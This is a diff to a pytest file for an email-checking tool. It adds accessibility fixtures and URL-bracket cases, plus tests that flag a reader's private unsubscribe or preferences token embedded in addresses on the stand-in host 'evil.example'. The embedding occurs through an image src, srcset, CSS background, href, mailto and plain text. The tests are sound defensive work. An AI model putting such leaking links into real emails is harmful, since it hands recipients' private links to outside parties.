@@ -126,6 +126,13 @@ MORE = {
     "bold text in grey": (with_style("color: #888888; font: bold 19px Georgia"), []),
     "not so large text in grey": (with_style("color: #888888; font-size: 23px"), ["contrast"]),
     "small text on phones alone": (with_rule("@media (max-width: 600px) { .text { font-size: 12px } }"), ["text-size"]),
+    "small text within a range": (with_rule("@media (width <= 600px) { .text { font-size: 8px } }"), ["text-size"]),
+    "small text between widths": (
+        with_rule("@media screen and (min-width: 1px) and (max-width: 600px) { .text { font-size: 8px } }"),
+        ["text-size"],
+    ),
+    "small text on a desk alone": (with_rule("@media (min-width: 601px) { .text { font-size: 12px } }"), ["text-size"]),
+    "pale and small, hidden in Outlook": (with_style("color: #fefefe; font-size: 8px; mso-hide: all"), ["contrast", "text-size"]),
     "text of no size": (with_style("font-size: 0"), []),
     "dark text in the dark alone": (with_rule("@media (prefers-color-scheme: dark) { .text { color: #404040 } }"), ["contrast"]),
     "the same, hidden in the dark": (
@@ -238,6 +245,8 @@ def test_what_gmail_alone_does_is_said_where_it_is_among_the_clients(rule: str) 
 ADDRESSES = {
     "at the end of a sentence": "Read https://example.org/lagoon.",
     "in brackets": "The lagoon (https://example.org/lagoon)",
+    "in brackets with more": "(The lagoon: see https://example.org/lagoon.)",
+    "in brackets of all kinds": "[{(https://example.org/lagoon)}]",
     "in angle brackets": "The lagoon <https://example.org/lagoon>, and more",
     "in quotes": 'The lagoon: "https://example.org/lagoon"',
 }
@@ -254,6 +263,45 @@ def test_an_address_may_end_as_sentences_do(address: str) -> None:
     """Then it is the same in both parts."""
     letter = broken('https://example.org/lagoon"', f'{address}"')
     assert found(replace(letter, text=GOOD.text.replace("https://example.org/lagoon", address))) == ()
+
+
+@pytest.mark.parametrize("line", ["(see {})", "{}.", "[{}], and more", "({}).", "“{}”"])
+def test_an_address_may_end_in_a_bracket_of_its_own(line: str) -> None:
+    """Those that it does not open are the sentence's."""
+    address = "https://example.org/a_(b)"
+    letter = broken('https://example.org/lagoon"', f'{address}"')
+    assert found(replace(letter, text=GOOD.text.replace("https://example.org/lagoon", line.format(address)))) == ()
+
+
+PRIVATE = {
+    "a picture": (after(f'<img class="spy" src="https://evil.example/?u={UNSUBSCRIBE}" alt="" width="9">'), "inside src"),
+    "a picture without a scheme": (
+        (' src="https://example.org', f' srcset="//evil.example/?u={PREFERENCES}" src="https://example.org'),
+        "srcset",
+    ),
+    "a ground": (with_style(f"color: #202020; background: url(https://evil.example/{UNSUBSCRIBE}) #ffffff"), "inside style"),
+    "a link": (('https://example.org/lagoon"', f'HTTPS://evil.example/?u={UNSUBSCRIBE}"'), "inside href"),
+    "a mail": ((f'href="{PREFERENCES}"', f'href="mailto:evil@evil.example?body=preferences{PREFERENCES}"'), "inside href"),
+}
+
+
+@pytest.mark.parametrize(("change", "place"), PRIVATE.values(), ids=PRIVATE.keys())
+def test_a_readers_own_link_is_for_nobody_else(change: tuple[str, str], place: str) -> None:
+    """As part of an address it is told to whoever is asked for that."""
+    (finding,) = [each for each in found(broken(*change)) if each.rule == "link-private"]
+    assert place in finding.what
+    assert finding.what.endswith("which gives a reader's private link to others")
+    assert finding.severity == "fault"
+
+
+def test_nor_in_the_text_part() -> None:
+    """There mail programs make links of addresses."""
+    given = broken("Unsubscribe: ", "Unsubscribe: https://evil.example/?u=", part="text")
+    (finding,) = [each for each in found(given) if each.rule == "link-private"]
+    assert (finding.where, finding.what) == (
+        "text part",
+        f"has {UNSUBSCRIBE} inside another address, which gives a reader's private link to others",
+    )
 
 
 def test_an_address_that_another_begins_with_is_not_carried() -> None:
